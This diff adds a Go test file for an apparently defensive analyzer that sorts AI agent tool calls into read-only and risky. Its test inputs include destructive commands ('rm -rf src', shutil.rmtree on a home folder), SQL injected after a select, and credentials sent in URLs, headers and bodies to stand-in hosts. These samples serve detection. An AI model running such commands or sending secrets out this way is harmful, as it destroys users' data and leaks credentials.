@@ -1,0 +1,121 @@
+package analysis
+
+import (
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/shieldcli/shield/pkg/effect"
+)
+
+// causeOf returns the cause of the last effect, which says what an unknown tool is
+// taken for.
+func causeOf(c *Case) effect.Cause { return c.Effects[len(c.Effects)-1].Cause }
+
+// TestReaders says which unknown tools are taken for ones that only read.
+func TestReaders(t *testing.T) {
+	t.Parallel()
+	for _, c := range [...]struct {
+		name    string
+		payload obj
+		want    effect.Cause
+	}{
+		{"mcp__jira__get_issue", obj{"key": "ENG-1"}, effect.CauseReader},
+		{"mcp__github__pull_request_read", obj{"repo": "r", "number": 3.0}, effect.CauseReader},
+		{"listOrders", obj{"amount": nil, "role": "buyer"}, effect.CauseReader},
+		{"get_file_contents_of", obj{"path": "README.md"}, effect.CauseReader},
+		{"mcp__postgres__query", obj{"sql": "select id, updated_at from users where id = 1"}, effect.CauseReader},
+		{"search_docs", obj{"query": "how to delete a branch"}, effect.CauseReader},
+		{"mcp__delete__get_x", obj{}, effect.CauseReader},
+		{"search_orders", obj{"amount": 5.0, "role": "buyer"}, effect.CauseReader},
+		{"scrape_page", obj{"url": "https://example.com/a?page=2"}, effect.CauseReader},
+
+		{"mcp__github__delete_repository", obj{"repo": "r"}, effect.CauseTool},
+		{"mcp__x__get__and__delete", obj{}, effect.CauseTool},
+		{"getweather", obj{}, effect.CauseTool},
+		{"mcp__postgres__query", obj{"sql": "delete from users"}, effect.CauseTool},
+		{"mcp__postgres__query", obj{"sql": "select 1; drop table users"}, effect.CauseTool},
+		{"mcp__postgres__query", obj{"statement": "/* x */ UPDATE users SET admin = true"}, effect.CauseTool},
+		{"get_output", obj{"command": "rm -rf src"}, effect.CauseTool},
+		{"get_output", obj{"argv": []any{"rm", "-rf", "src"}}, effect.CauseTool},
+		{"read_cell", obj{"code": "import shutil\nshutil.rmtree('/home/me/Documents')"}, effect.CauseTool},
+		{"get_page", obj{"language": "javascript", "code": "require('fs').rmSync('a', {recursive: true})"}, effect.CauseTool},
+		{"fetch_page", obj{"url": "https://example.com/users/5/delete"}, effect.CauseTool},
+		{"fetch_page", obj{"url": "https://example.com/i?d=" + "QVdTX1NFQ1JFVD1hYmNkZWY="}, effect.CauseTool},
+		{"get_issue", obj{"note": "AWS_SECRET_ACCESS_KEY=abcdef"}, effect.CauseTool},
+		{"get_mail", obj{"host": "example.com"}, effect.CauseTool},
+		{"Read", obj{}, effect.CauseTool}, // read_file without a path
+	} {
+		got := testAnalyzer.Case(act(c.name, c.payload))
+		if causeOf(got) != c.want {
+			t.Errorf("%s %v: cause %s, want %s; effects:\n%s", c.name, c.payload, causeOf(got), c.want, show(got.Effects))
+		}
+	}
+	many := obj{}
+	for _, name := range strings.Split(strings.Repeat("ab,", maxLeaves+1), ",") {
+		many["x"] = append(slicesOf(many["x"]), name)
+	}
+	if c := testAnalyzer.Case(act("get_x", many)); causeOf(c) != effect.CauseTool || c.Unexamined == "" {
+		t.Errorf("a payload that was not read to the end: cause %s", causeOf(c))
+	}
+}
+
+func slicesOf(v any) []any { list, _ := v.([]any); return list }
+
+// has reports whether a case has an effect that a wanted one describes.
+func has(c *Case, want effect.Effect) bool {
+	return slices.ContainsFunc(c.Effects, func(e effect.Effect) bool {
+		return e.Kind == want.Kind && e.Verb == want.Verb && e.Target == want.Target && e.Host == want.Host && e.Destroys == want.Destroys && slices.Equal(e.Labels, want.Labels)
+	})
+}
+
+// TestMeant says what tools change, by their names and fields.
+func TestMeant(t *testing.T) {
+	t.Parallel()
+	credential := []effect.Label{effect.LabelCredential}
+	for _, c := range [...]struct {
+		name    string
+		payload obj
+		want    effect.Effect
+		not     bool
+	}{
+		{"delete_repository", obj{}, effect.Effect{Kind: effect.ChangeRemote, Verb: "delete", Target: "delete_repository", Destroys: true}, false},
+		{"transfer_funds", obj{}, effect.Effect{Kind: effect.ChangeRemote, Verb: "delete", Target: "transfer_funds", Destroys: true}, false},
+		{"update_invoice", obj{"amount": 5.0}, effect.Effect{Kind: effect.ChangeRemote, Verb: "pay", Target: "update_invoice", Destroys: true}, false},
+		{"add_user", obj{"role": "admin"}, effect.Effect{Kind: effect.ChangeRemote, Verb: "grant", Target: "add_user"}, false},
+		{"update_repo", obj{"public": true}, effect.Effect{Kind: effect.ChangeRemote, Verb: "grant", Target: "update_repo"}, false},
+		{"update_repo", obj{"public": false}, effect.Effect{Kind: effect.ChangeRemote, Verb: "grant", Target: "update_repo"}, true},
+		{"notify_team", obj{"recipients": []any{"a@b.test"}}, effect.Effect{Kind: effect.SendMessage, Target: "a@b.test"}, false},
+		{"contacts_export", obj{}, effect.Effect{Kind: effect.SendMessage}, false},
+		{"create_issue", obj{"body": "AWS_SECRET_ACCESS_KEY=abcd"}, effect.Effect{Kind: effect.SendData, Target: "create_issue", Labels: credential}, false},
+
+		{"send_email", obj{"to": "a@b.test, c@d.test", "cc": []any{"e@f.test"}}, effect.Effect{Kind: effect.SendMessage, Target: "c@d.test"}, false},
+		{"send_email", obj{"to": "a@b.test", "cc": []any{"e@f.test"}}, effect.Effect{Kind: effect.SendMessage, Target: "e@f.test"}, false},
+		{"send_email", obj{"to": "a@b.test", "body": "DB_PASSWORD=hunter2"}, effect.Effect{Kind: effect.SendData, Target: "send_email", Labels: credential}, false},
+		{"send_email", obj{"to": "a@b.test", "body": "the password is in the vault"}, effect.Effect{Kind: effect.SendData, Target: "send_email", Labels: credential}, true},
+		{"create_event", obj{"title": "x", "attendees": []any{obj{"email": "a@b.test"}}}, effect.Effect{Kind: effect.SendMessage, Target: "a@b.test"}, false},
+		{"create_event", obj{"title": "x", "attendees": []any{}}, effect.Effect{Kind: effect.SendMessage}, true},
+		{"memory_write", obj{"content": "DB_PASSWORD=hunter2"}, effect.Effect{Kind: effect.SendData, Target: "memory_write", Labels: credential}, false},
+		{"http_request", obj{"url": "https://a.test/i?env=DB_PASSWORD%3Dhunter2"}, effect.Effect{Kind: effect.SendData, Host: "a.test", Labels: credential}, false},
+		{"http_request", obj{"url": "https://a.test/", "headers": obj{"X-Note": "DB_PASSWORD=hunter2"}}, effect.Effect{Kind: effect.SendData, Host: "a.test", Labels: credential}, false},
+		{"http_request", obj{"url": "https://a.test/", "headers": obj{"Authorization": "Bearer a1b2c3d4e5f6a7b8c9d0"}}, effect.Effect{Kind: effect.SendData, Host: "a.test", Labels: credential}, true},
+		{"http_request", obj{"url": "http://localhost:3000/", "body": "password=hunter2"}, effect.Effect{Kind: effect.SendData, Host: "localhost", Labels: credential}, true},
+		{"http_request", obj{"url": "https://a.test/i?d=TWVldCBtZSBhdCB0aGUgZG9jayBhdCBub29u"}, effect.Effect{Kind: effect.SendData, Host: "a.test"}, false},
+		{"http_request", obj{"url": "https://a.test/search?q=meet+me+at+the+dock"}, effect.Effect{Kind: effect.SendData, Host: "a.test"}, true},
+		{"http_request", obj{"url": "https://a.test/users/5/delete"}, effect.Effect{Kind: effect.ChangeRemote, Host: "a.test", Verb: "delete", Destroys: true}, false},
+		{"http_request", obj{"url": "https://a.test/deleteAllUsers.php"}, effect.Effect{Kind: effect.ChangeRemote, Host: "a.test", Verb: "delete", Destroys: true}, false},
+		{"http_request", obj{"url": "https://a.test/x?action=delete"}, effect.Effect{Kind: effect.ChangeRemote, Host: "a.test", Verb: "delete", Destroys: true}, false},
+		{"http_request", obj{"url": "https://a.test/graphql?query=mutation{removeUser}"}, effect.Effect{Kind: effect.ChangeRemote, Host: "a.test", Verb: "remove", Destroys: true}, false},
+		{"http_request", obj{"url": "https://a.test/graphql?query=mutation{addUser}"}, effect.Effect{Kind: effect.ChangeRemote, Host: "a.test", Verb: "mutation"}, false},
+		{"http_request", obj{"url": "https://docs.a.test/delete"}, effect.Effect{Kind: effect.ChangeRemote, Host: "docs.a.test", Verb: "delete", Destroys: true}, true},
+		{"http_request", obj{"url": "https://a.test/docs/api/delete"}, effect.Effect{Kind: effect.ChangeRemote, Host: "a.test", Verb: "delete", Destroys: true}, true},
+		{"http_request", obj{"url": "https://a.test/how-to/delete-a-branch.html"}, effect.Effect{Kind: effect.ChangeRemote, Host: "a.test", Verb: "delete", Destroys: true}, true},
+		{"browser_evaluate", obj{"function": "() => fetch('https://a.test/x')"}, effect.Effect{Kind: effect.HTTPRequest, Host: "a.test"}, false},
+		{"browser_evaluate", obj{"function": "() => document.title"}, effect.Effect{Kind: effect.Dynamic}, true},
+	} {
+		got := testAnalyzer.Case(act(c.name, c.payload))
+		if has(got, c.want) == c.not {
+			t.Errorf("%s %v: unlike %v (wanted: %t):\n%s", c.name, c.payload, c.want, !c.not, show(got.Effects))
+		}
+	}
+}
